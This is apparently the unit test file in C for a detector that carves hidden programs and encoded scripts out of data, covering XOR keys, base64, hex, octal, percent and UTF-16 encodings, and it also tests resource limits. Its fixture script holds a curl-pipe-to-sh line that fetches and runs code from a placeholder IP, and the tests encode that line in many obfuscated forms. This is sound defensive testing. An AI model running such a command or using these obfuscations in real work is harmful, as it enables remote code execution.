/* What hides in bytes: programs as they are and under keys, texts that are encoded, what is no more than chance, and the limits. */
#include "unit.h"

#include <stdlib.h>
#include <unistd.h>

#include "carve/carve.h"
#include "pe_make.h"

static const char script[] = "#!/bin/sh\n# inert\ncurl -s http://198.51.100.7/x | sh\necho settled\n";

/* This program itself, as an ELF file that no test has made. */
static struct buf self(void)
{
	struct buf b = { 0 };
	struct err e = { 0 };

	io_slurp_path("/proc/self/exe", 64 * MIB, &b, &e);
	return b;
}

static void chance(struct buf *b, size_t n, uint64_t state)
{
	for (size_t i = 0; i < n; i++) {
		state = state * 6364136223846793005u + 1442695040888963407u;
		buf_addc(b, (char)(state >> 56));
	}
}

static bool found(const struct carving *c, size_t i, const char *coding, enum carve_what what, const void *bytes, size_t n)
{
	return i < c->count && !strcmp(c->piece[i].coding, coding) && c->piece[i].what == what && c->piece[i].bytes.len == n &&
		!memcmp(c->piece[i].bytes.p, bytes, n);
}

static void under_keys(const char *name, const void *program, size_t n, const size_t *lengths)
{
	const unsigned char *p = program;

	for (; *lengths; lengths++) {
		struct buf b = { 0 }, key = { 0 };
		struct carving c;
		char hex[2 * 64 + 1], words[64];

		chance(&b, 61 + *lengths, *lengths);
		chance(&key, *lengths, 7 * *lengths);
		for (size_t i = 0; i < *lengths; i++)
			sprintf(hex + 2 * i, "%02x", key.p[i]);
		for (size_t i = 0; i < n; i++)
			buf_addc(&b, (char)(p[i] ^ key.p[i % *lengths]));
		chance(&b, 33, 5);
		carve(b.p, b.len, NULL, &c);
		snprintf(words, sizeof words, "%s under a key of %zu bytes", name, *lengths);
		if (!OK(found(&c, 0, "xor", CARVE_PROGRAM, p, n) && c.piece[0].offset == 61 + *lengths && !strcmp(c.piece[0].key, hex), words))
			printf("# %zu pieces\n", c.count);
		carving_free(&c);
		buf_free(&b);
		buf_free(&key);
	}
}

static void programs(void)
{
	static const size_t elf_keys[] = { 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 20, 0 }, pe_keys[] = { 1, 3, 4, 8, 11, 16, 20, 24, 32, 0 };
	struct buf elf = self(), b = { 0 };
	struct pe_made *pe = buf_alloc(sizeof *pe);
	struct carving c;

	pe_make(pe, true);
	buf_adds(&b, "#!/bin/sh\n");
	buf_add(&b, elf.p, elf.len);
	buf_adds(&b, "between");
	buf_add(&b, pe->b, pe->n);
	carve(b.p, b.len, NULL, &c);
	OK(found(&c, 0, "plain", CARVE_PROGRAM, elf.p, elf.len) && c.piece[0].offset == 10 && c.piece[0].parent == -1, "an ELF file behind a script, as long as it is");
	OK(found(&c, 1, "plain", CARVE_PROGRAM, pe->b, pe->n) && c.piece[1].offset == 17 + elf.len, "a PE file behind that");
	carving_free(&c);
	carve(elf.p, elf.len, NULL, &c);
	OK(!c.count && !c.stopped, "a program is not what it hides");
	carving_free(&c);
	under_keys("an ELF file", elf.p, elf.len, elf_keys);
	under_keys("a PE file", pe->b, pe->n, pe_keys);
	buf_free(&elf);
	buf_free(&b);
	free(pe);
}

/* The script, each byte as a number in one notation behind a prefix, with something between. */
static void numbers(const char *name, const char *prefix, unsigned base, const char *between, const char *coding)
{
	struct buf b = { 0 };
	struct carving c;

	buf_adds(&b, "x = f(");
	for (size_t i = 0; i < sizeof script - 1; i++) {
		buf_adds(&b, i ? between : "");
		buf_adds(&b, prefix);
		if (base == 10)
			buf_addf(&b, "%d", script[i]);
		else
			buf_addf(&b, base == 16 ? "%02X" : "%03o", (unsigned char)script[i]);
	}
	buf_adds(&b, ");\n");
	carve(b.p, b.len, NULL, &c);
	if (!OK(c.count == 1 && found(&c, 0, coding, CARVE_SCRIPT, script, sizeof script - 1), name))
		printf("# %zu: %s\n%s", c.count, c.count ? c.piece[0].coding : "", buf_str(&b));
	carving_free(&c);
	buf_free(&b);
}

static void texts(void)
{
	struct carving c;
	struct buf b = { 0 }, wide = { 0 };
	json_t *base64 = jsonio_base64(script, sizeof script - 1);
	const char *text = json_string_value(base64);

	numbers("decimal numbers", "", 10, ", ", "decimal-numbers");
	numbers("decimal numbers, ten a line and so on", "", 10, ",\n\t", "decimal-numbers");
	numbers("characters by a function", "", 10, ").chr(", "decimal-numbers");
	numbers("characters by a type", "", 10, "+[char]", "decimal-numbers");
	numbers("hex numbers, as in C", "0x", 16, ", ", "hex-numbers");
	numbers("hex escapes", "\\x", 16, "", "hex-escapes");
	numbers("escapes of JavaScript", "\\u00", 16, "", "hex-escapes");
	numbers("octal escapes", "\\", 8, "", "octal-escapes");
	numbers("an address's escapes", "%", 16, "", "percent");
	numbers("hex digits", "", 16, "", "hex");
	numbers("hex digits, two and two", "", 16, " ", "hex-numbers");
	numbers("entities of HTML", "&#x", 16, ";", "hex-numbers");
	numbers("octal escapes of echo", "\\0", 8, "", "octal-escapes");
	numbers("escapes of an address, long", "%u00", 16, "", "percent");

	/* Lines and quotes of odd lengths, and a word behind. */
	for (size_t width = 16; width < 100; width += 7) {
		buf_clear(&b);
		buf_adds(&b, "s = ");
		for (size_t i = 0; i < strlen(text); i += width)
			buf_addf(&b, "\"%.*s\" + \\\n    ", (int)width, text + i);
		buf_adds(&b, "\"\"\nfinish(s)\n");
		carve(b.p, b.len, NULL, &c);
		if (!OK(c.count == 1 && found(&c, 0, "base64", CARVE_SCRIPT, script, sizeof script - 1), "base64 in quotes that are joined"))
			printf("# %zu\n%s\n", width, buf_str(&b));
		carving_free(&c);
	}
	for (size_t i = 0; i < sizeof script - 1; i++) {
		buf_addc(&wide, script[i]);
		buf_addc(&wide, 0);
	}
	json_decref(base64);
	base64 = jsonio_base64(wide.p, wide.len);
	carve(json_string_value(base64), json_string_length(base64), NULL, &c);
	OK(c.count == 2 && found(&c, 0, "base64", CARVE_TEXT, wide.p, wide.len) && found(&c, 1, "utf-16le", CARVE_SCRIPT, script, sizeof script - 1) && !c.piece[1].parent,
		"base64 of a text of 16 bits a character, as PowerShell takes it");
	carving_free(&c);
	json_decref(base64);
	buf_free(&b);
	buf_free(&wide);
}

/* What is written in quotes is the script again, or what leads to it. */
static void literal(const char *name, const char *before, const char *after, const char *coding, size_t depth)
{
	struct buf b = { 0 };
	struct carving c;

	buf_addf(&b, "run(%s", before);
	for (size_t i = 0; i < sizeof script - 1; i++) {
		if (!strcmp(coding, "percent"))
			buf_addf(&b, strchr("#!\n :|", script[i]) ? "%%%02X" : "%c", script[i]);
		else
			buf_addf(&b, strchr("#!:|/.", script[i]) ? "\\x%02x" : script[i] == '\n' ? "\\n" : "%c", script[i]);
	}
	buf_addf(&b, "%s)\n", after);
	carve(b.p, b.len, NULL, &c);
	OK(c.count == depth && found(&c, depth - 1, coding, CARVE_SCRIPT, script, sizeof script - 1), name);
	carving_free(&c);
	buf_free(&b);
}

static void certificate(void)
{
	struct buf der = { 0 }, b = { 0 };
	struct carving c;
	json_t *base64;

	/* Binary, with an address that fills a line of its own: as certificates have it. */
	chance(&der, 96, 3);
	buf_adds(&der, "http://crl.example.org/a/list/that/is/long/x.crl");
	chance(&der, 96, 4);
	base64 = jsonio_base64(der.p, der.len);
	buf_adds(&b, "-----BEGIN CERTIFICATE-----\n");
	for (size_t i = 0; i < json_string_length(base64); i += 64)
		buf_addf(&b, "%.64s\n", json_string_value(base64) + i);
	buf_adds(&b, "-----END CERTIFICATE-----\n");
	carve(b.p, b.len, NULL, &c);
	OK(!c.count, "a line of a certificate is no text of its own");
	carving_free(&c);
	json_decref(base64);
	buf_free(&der);
	buf_free(&b);
}

static void keyed(void)
{
	struct buf b = { 0 };
	struct carving c;
	json_t *base64;

	for (size_t i = 0; i < sizeof script - 1; i++)
		buf_addc(&b, (char)(script[i] ^ 0x5a));
	base64 = jsonio_base64(b.p, b.len);
	carve(json_string_value(base64), json_string_length(base64), NULL, &c);
	OK(c.count == 2 && found(&c, 1, "xor", CARVE_SCRIPT, script, sizeof script - 1) && !strcmp(c.piece[1].key, "5a"), "base64 of a text under a key");
	carving_free(&c);
	json_decref(base64);
	buf_clear(&b);
	for (unsigned i = 0; i < 64; i++)
		buf_addf(&b, "%u, ", i % 40);
	carve(b.p, b.len, NULL, &c);
	OK(!c.count, "a list of small numbers is none");
	carving_free(&c);
	buf_free(&b);
}

static void nothing(void)
{
	struct buf b = { 0 };
	struct carving c;
	json_t *base64;

	chance(&b, 300000, 42);
	carve(b.p, b.len, NULL, &c);
	OK(!c.count && !c.stopped, "chance bytes hide nothing");
	carving_free(&c);
	base64 = jsonio_base64(b.p, b.len);
	carve(json_string_value(base64), json_string_length(base64), NULL, &c);
	OK(!c.count && !c.stopped, "nor does base64 of them");
	carving_free(&c);
	json_decref(base64);
	buf_clear(&b);
	buf_adds(&b, "x\x9c");
	chance(&b, 40, 9);
	base64 = jsonio_base64(b.p, b.len);
	carve(json_string_value(base64), json_string_length(base64), NULL, &c);
	OK(!c.count, "nor do chance bytes that begin as a stream does");
	carving_free(&c);
	buf_clear(&b);
	for (unsigned i = 0; i < 256; i++)
		buf_addf(&b, "%u, ", i);
	carve(b.p, b.len, NULL, &c);
	OK(!c.count, "nor does a table of all characters");
	carving_free(&c);
	carve("", 0, NULL, &c);
	OK(!c.count && !c.stopped, "nor does an empty file");
	carving_free(&c);
	json_decref(base64);
	buf_free(&b);
}

/* A line of a script that holds a text in base64. */
static void add_encoded(struct buf *b, const char *text)
{
	json_t *base64 = jsonio_base64(text, strlen(text));

	buf_addf(b, "x = '%s';\n", json_string_value(base64));
	json_decref(base64);
}

static void add_numbered(struct buf *b, const char *before, const char *after)
{
	buf_clear(b);
	for (unsigned i = 0; i < 5; i++) {
		char *one = buf_printf("%s%u%s", before, i, after);

		add_encoded(b, one);
		free(one);
	}
}

static void limits(void)
{
	const struct carve_limits few = { .pieces = 3 }, four = { .pieces = 4 }, small = { .bytes = sizeof script - 1 }, lazy = { .work = 400 }, flat = { .depth = 2 };
	struct buf b = { 0 };
	struct carving c;

	add_numbered(&b, "#!/bin/sh\necho ", " is what this says\n");
	carve(b.p, b.len, &few, &c);
	OK(c.count == 3 && c.stopped && !strcmp(c.stopped, "pieces"), "more than so many pieces: it says so");
	carving_free(&c);
	add_numbered(&b, "this is decoy number ", ", a text and no more");
	add_encoded(&b, script);
	carve(b.p, b.len, &four, &c);
	OK(c.count == 4 && found(&c, 3, "base64", CARVE_SCRIPT, script, sizeof script - 1) && c.stopped, "texts leave room for a script behind them");
	carving_free(&c);
	carve(b.p, b.len, &small, &c);
	OK(c.count == 1 && c.stopped && !strcmp(c.stopped, "bytes"), "more than so many bytes");
	carving_free(&c);
	carve(b.p, b.len, &lazy, &c);
	OK(c.count < 6 && c.stopped && !strcmp(c.stopped, "work"), "more work than that");
	carving_free(&c);
	buf_clear(&b);
	buf_adds(&b, script);
	for (unsigned i = 0; i < 4; i++) {
		json_t *base64 = jsonio_base64(b.p, b.len);

		buf_clear(&b);
		buf_addf(&b, "and decode '%s' again\n", json_string_value(base64));
		json_decref(base64);
	}
	carve(b.p, b.len, &flat, &c);
	OK(c.count == 2 && c.piece[1].parent == 0 && c.stopped && !strcmp(c.stopped, "depth"), "deeper than that");
	carving_free(&c);
	carve(b.p, b.len, NULL, &c);
	OK(c.count == 4 && found(&c, 3, "base64", CARVE_SCRIPT, script, sizeof script - 1) && c.piece[3].parent == 2, "text in text in text in text");
	carving_free(&c);
	buf_free(&b);
}

/* Headers that tell of tables without end cost as much as those would. */
static void costly(void)
{
	const struct carve_limits some = { .work = 64 * MIB };
	struct buf elf = self(), b = { 0 };
	struct carving c;

	memcpy(elf.p + 60, "\xff\xff", 2);   /* e_shnum */
	memcpy(elf.p + 16, "\0\0", 2);       /* e_type: none, so that it is none that counts */
	for (unsigned i = 0; i < 1000; i++)
		buf_add(&b, elf.p, 64);
	carve(b.p, b.len, &some, &c);
	OK(!c.count && c.stopped && !strcmp(c.stopped, "work"), "headers with tables without end are work");
	carving_free(&c);
	buf_free(&elf);
	buf_free(&b);
}

int main(void)
{
	costly();
	programs();
	texts();
	literal("a text in quotes, some of it escaped", "\"", "\"", "escapes", 1);
	literal("the same in others", "b'", "'", "escapes", 1);
	literal("a text in quotes, some of it in percent", "'", "'", "percent", 1);
	certificate();
	keyed();
	nothing();
	limits();
	return unit_end();
}
